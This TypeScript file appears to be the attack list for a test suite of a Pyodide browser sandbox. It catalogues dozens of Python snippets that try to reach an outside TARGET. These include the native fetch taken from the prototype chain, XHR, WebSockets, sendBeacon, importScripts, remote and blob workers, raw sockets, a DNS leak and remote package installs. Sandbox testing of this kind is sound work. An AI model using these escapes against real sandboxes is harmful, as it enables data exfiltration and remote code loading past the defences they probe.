/**
 * Ways out of a worker, by the wall that stops them. Each tries to reach TARGET in its own manner and prints GOT when it has.
 */
export interface NetworkAttack {
  readonly attack: string;
  readonly wall: 'CSP' | 'broker' | 'interpreter' | 'origin';
  readonly ways: readonly (readonly [name: string, code: string])[];
}

/** The `fetch` of the browser, from under the one that the sandbox puts before it. */
const NATIVE = `proto = js.self
native = None
while native is None:
    proto = Object.getPrototypeOf(proto)
    native = Object.getOwnPropertyDescriptor(proto, "fetch")
def native_fetch(*args): return native.value.call(js.self, *args)
`;

/** Asks for TARGET in a worker that Python starts, with the words for a request in the worker's own JavaScript. */
const inWorker = (script: string) =>
  `SCRIPT = f"""${script}"""\nprint("GOT" if await ask_worker(SCRIPT) == 1 else "refused")`;

export const NETWORK_ATTACKS: readonly NetworkAttack[] = [
  {
    attack: 'fetch: plain, no-cors, with credentials and a body, keepalive, HEAD, in a Request, with an integrity',
    wall: 'broker',
    ways: [
      ['fetch', 'await reach(js.fetch(TARGET))'],
      ['no-cors', 'await reach(js.fetch(TARGET, options(mode="no-cors")))'],
      ['credentials', 'await reach(js.fetch(TARGET, options(method="POST", credentials="include", body="x")))'],
      ['keepalive', 'await reach(js.fetch(TARGET, options(keepalive=True, method="POST", body="x")))'],
      ['HEAD', 'await reach(js.fetch(TARGET, options(method="HEAD")))'],
      ['PUT', 'await reach(js.fetch(TARGET, options(method="PUT", body="x")))'],
      ['Request', 'await reach(js.fetch(js.Request.new(TARGET, options(credentials="include"))))'],
      ['integrity', 'await reach(js.fetch(TARGET, options(integrity="sha256-AAAA", cache="force-cache")))'],
    ],
  },
  {
    attack: "the browser's own fetch behind the sandbox's, found on the prototype",
    wall: 'CSP',
    ways: [
      ['plain', `${NATIVE}await reach(native_fetch(TARGET))`],
      ['no-cors', `${NATIVE}await reach(native_fetch(TARGET, options(mode="no-cors")))`],
      [
        'credentials',
        `${NATIVE}await reach(native_fetch(TARGET, options(method="POST", credentials="include", body="x")))`,
      ],
      ['keepalive', `${NATIVE}await reach(native_fetch(TARGET, options(keepalive=True, method="POST", body="x")))`],
      ['same origin', `${NATIVE}await reach(native_fetch(TARGET, options(mode="same-origin")))`],
      [
        'a second one, once ours is deleted',
        `${NATIVE}mine = js.self.fetch
del js.self.fetch
try: await reach(js.self.fetch(TARGET))
finally: js.self.fetch = mine`,
      ],
    ],
  },
  {
    attack: 'XMLHttpRequest, also synchronous',
    wall: 'CSP',
    ways: [
      [
        'asynchronous',
        'x = js.XMLHttpRequest.new()\nx.open("GET", TARGET)\nx.send()\nprint("GOT" if (await outcome(x, "load", "error")).type == "load" else "error")',
      ],
      [
        'synchronous',
        'x = js.XMLHttpRequest.new()\nx.open("GET", TARGET, False)\nx.send()\nprint("GOT", x.responseText)',
      ],
      [
        'synchronous POST with credentials',
        'x = js.XMLHttpRequest.new()\nx.open("POST", TARGET, False)\nx.withCredentials = True\nx.send("x")\nprint("GOT", x.responseText)',
      ],
    ],
  },
  {
    attack: 'WebSocket, WebSocketStream, EventSource, WebTransport, RTCPeerConnection',
    wall: 'CSP',
    ways: [
      [
        'WebSocket',
        's = js.WebSocket.new(TARGET.replace("http", "ws"))\nprint("GOT" if (await outcome(s, "open", "error")).type == "open" else "error")',
      ],
      ['WebSocketStream', 's = js.WebSocketStream.new(TARGET.replace("http", "ws"))\nawait reach(s.opened)'],
      [
        'EventSource',
        's = js.EventSource.new(TARGET)\nprint("GOT" if (await outcome(s, "open", "error")).type == "open" else "error")',
      ],
      ['WebTransport', 'w = js.WebTransport.new(TARGET.replace("http:", "https:"))\nawait reach(w.ready)'],
      [
        'RTCPeerConnection',
        'js.RTCPeerConnection.new(options(iceServers=[{"urls": TARGET.replace("http://", "stun:").rstrip("/")}]))\nprint("GOT")',
      ],
      ['TCPSocket', 's = js.TCPSocket.new("127.0.0.1", 80)\nawait reach(s.opened)'],
    ],
  },
  {
    attack: 'requests that outlive their page: sendBeacon, fetchLater, service workers, shared workers',
    wall: 'origin',
    ways: [
      ['sendBeacon', 'print("GOT" if js.navigator.sendBeacon(TARGET, "x") else "refused")'],
      ['fetchLater', 'js.fetchLater(TARGET, options(activateAfter=0))\nprint("GOT")'],
      ['service worker', 'await reach(js.navigator.serviceWorker.register(TARGET))'],
      ['service worker of a blob', 'await reach(js.navigator.serviceWorker.register(blob_url("0")))'],
      ['shared worker', 'js.SharedWorker.new(TARGET)\nprint("GOT")'],
      ['shared worker of a blob', 'js.SharedWorker.new(blob_url(f"fetch({TARGET!r})"))\nprint("GOT")'],
    ],
  },
  {
    attack: 'code from outside: importScripts, import() of remote, data and blob addresses, remote workers',
    wall: 'CSP',
    ways: [
      ['importScripts', 'js.importScripts(TARGET)\nprint("GOT")'],
      [
        'importScripts of the prototype',
        `proto = js.self
found = None
while found is None:
    proto = Object.getPrototypeOf(proto)
    found = Object.getOwnPropertyDescriptor(proto, "importScripts")
found.value.call(js.self, TARGET)
print("GOT")`,
      ],
      ['import()', 'await reach(run_js(f"import({TARGET!r})"))'],
      ['import() of data', 'await reach(run_js("import(\'data:text/javascript,export default 1\')"))'],
      ['import() of a blob', 'url = blob_url(f"import {TARGET!r}")\nawait reach(run_js(f"import({url!r})"))'],
      [
        'remote worker',
        'w = js.Worker.new(TARGET)\nprint("GOT" if (await outcome(w, "message", "error")).type == "message" else "error")',
      ],
      [
        'remote module worker',
        'w = js.Worker.new(TARGET, options(type="module"))\nprint("GOT" if (await outcome(w, "message", "error")).type == "message" else "error")',
      ],
      [
        'worker of a data address',
        'script = "postMessage(1);" + f"fetch({TARGET!r})"\nw = js.Worker.new("data:text/javascript," + script)\nprint("GOT" if (await outcome(w, "message", "error")).type == "message" else "error")',
      ],
    ],
  },
  {
    attack: 'workers that Python starts from blobs: fetch, XHR, socket, importScripts, a module, a worker of theirs',
    wall: 'CSP',
    ways: [
      ['fetch', inWorker('fetch({TARGET!r}).then(() => postMessage(1), () => postMessage(0))')],
      [
        'no-cors',
        inWorker(
          'fetch({TARGET!r}, {{mode: "no-cors", method: "POST", body: "x"}}).then(() => postMessage(1), () => postMessage(0))',
        ),
      ],
      [
        'synchronous XHR',
        inWorker(
          'try {{ const x = new XMLHttpRequest(); x.open("GET", {TARGET!r}, false); x.send(); postMessage(1) }} catch {{ postMessage(0) }}',
        ),
      ],
      [
        'socket',
        inWorker(
          'const s = new WebSocket({TARGET!r}.replace("http", "ws")); s.onopen = () => postMessage(1); s.onerror = () => postMessage(0)',
        ),
      ],
      ['importScripts', inWorker('try {{ importScripts({TARGET!r}); postMessage(1) }} catch {{ postMessage(0) }}')],
      ['eval', inWorker('try {{ eval("1"); postMessage(1) }} catch {{ postMessage(0) }}')],
      ['import()', inWorker('import({TARGET!r}).then(() => postMessage(1), () => postMessage(0))')],
      [
        'module with an import',
        'w = js.Worker.new(blob_url(f"import {TARGET!r}; postMessage(1)"), options(type="module"))\nprint("GOT" if (await outcome(w, "message", "error")).type == "message" else "error")',
      ],
      [
        'worker of a worker',
        inWorker(
          'const u = URL.createObjectURL(new Blob(["fetch(" + JSON.stringify({TARGET!r}) + ").then(() => postMessage(1), () => postMessage(0))"])); const w = new Worker(u); w.onmessage = (e) => postMessage(e.data); w.onerror = () => postMessage(0)',
        ),
      ],
    ],
  },
  {
    attack: 'fonts, images, style sheets and WebAssembly that load',
    wall: 'CSP',
    ways: [
      ['font', 'f = js.FontFace.new("x", f"url({TARGET})")\nawait reach(f.load())'],
      [
        'font in a canvas',
        'js.self.fonts.add(js.FontFace.new("x", f"url({TARGET})"))\nawait js.self.fonts.load("12px x")\nc = js.OffscreenCanvas.new(9, 9).getContext("2d")\nc.font = "12px x"\nc.fillText("x", 0, 9)\nprint("drawn")',
      ],
      ['image of a response', 'await reach(js.createImageBitmap(await (await js.fetch(TARGET)).blob()))'],
      [
        'image decoder',
        'd = js.ImageDecoder.new(options(type="image/png", data=(await js.fetch(TARGET)).body))\nprint("GOT")',
      ],
      ['WebAssembly', `${NATIVE}await reach(js.WebAssembly.instantiateStreaming(native_fetch(TARGET), Object.new()))`],
      ['style sheet', 'js.CSSStyleSheet.new().replaceSync(f"@import url({TARGET})")\nprint("GOT")'],
    ],
  },
  {
    attack: "Python's own: pyfetch, open_url, urllib, http.client, xmlrpc, sockets, asyncio, requests",
    wall: 'broker',
    ways: [
      ['pyfetch', 'from pyodide.http import pyfetch\nprint("GOT", await (await pyfetch(TARGET)).string())'],
      ['open_url', 'from pyodide.http import open_url\nprint("GOT", open_url(TARGET).read())'],
      ['urllib', 'from urllib.request import urlopen\nprint("GOT", urlopen(TARGET, timeout=3).read())'],
      [
        'http.client',
        'import http.client\nfrom urllib.parse import urlsplit\nc = http.client.HTTPConnection(urlsplit(TARGET).netloc, timeout=3)\nc.request("GET", "/attack")\nprint("GOT", c.getresponse().read())',
      ],
      [
        'socket',
        'import socket\nfrom urllib.parse import urlsplit\nt = urlsplit(TARGET)\ns = socket.create_connection((t.hostname, t.port), timeout=3)\ns.sendall(b"GET /attack HTTP/1.0\\r\\n\\r\\n")\nprint("GOT", s.recv(10))',
      ],
      [
        'datagram',
        'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(3)\ns.sendto(b"x", ("127.0.0.1", 53))\nprint("GOT", s.recv(10))',
      ],
      [
        'asyncio',
        'from urllib.parse import urlsplit\nt = urlsplit(TARGET)\nr, w = await asyncio.wait_for(asyncio.open_connection(t.hostname, t.port), 5)\nprint("GOT")',
      ],
      ['xmlrpc', 'import xmlrpc.client\nprint("GOT", xmlrpc.client.ServerProxy(TARGET).x())'],
      ['name server', 'import socket\nsocket.gethostbyname("leak.example")'],
      [
        'requests by the package of that name',
        'try: import requests\nexcept ImportError: print("not there")\nelse: print("GOT", requests.get(TARGET, timeout=3).text)',
      ],
    ],
  },
  {
    attack: 'packages from outside: micropip by address and by index, loadPackage, a lock file of their own',
    wall: 'broker',
    ways: [
      ['loadPackage', 'import pyodide_js\nawait asyncio.wait_for(pyodide_js.loadPackage(TARGET + ".whl"), 20)'],
      [
        'loadPackage of a name with a path',
        'import pyodide_js\nawait asyncio.wait_for(pyodide_js.loadPackage("../../../" + TARGET), 20)',
      ],
      [
        'micropip by address',
        'try: import micropip\nexcept ImportError: print("not there")\nelse:\n    await micropip.install(TARGET + "x-1.0-py3-none-any.whl")\n    print("GOT")',
      ],
      [
        'micropip by index',
        'try: import micropip\nexcept ImportError: print("not there")\nelse:\n    await micropip.install("x", index_urls=TARGET + "/{package_name}/json")\n    print("GOT")',
      ],
      [
        'the loader with another index',
        'import pyodide_js\napi = pyodide_js._api\napi.config.packageBaseUrl = TARGET\napi.config.indexURL = TARGET\nawait asyncio.wait_for(pyodide_js.loadPackage("micropip"), 20)',
      ],
      [
        'unpacked from a response',
        'from pyodide.http import pyfetch\nawait (await pyfetch(TARGET + "x.zip")).unpack_archive()\nprint("GOT")',
      ],
    ],
  },
];
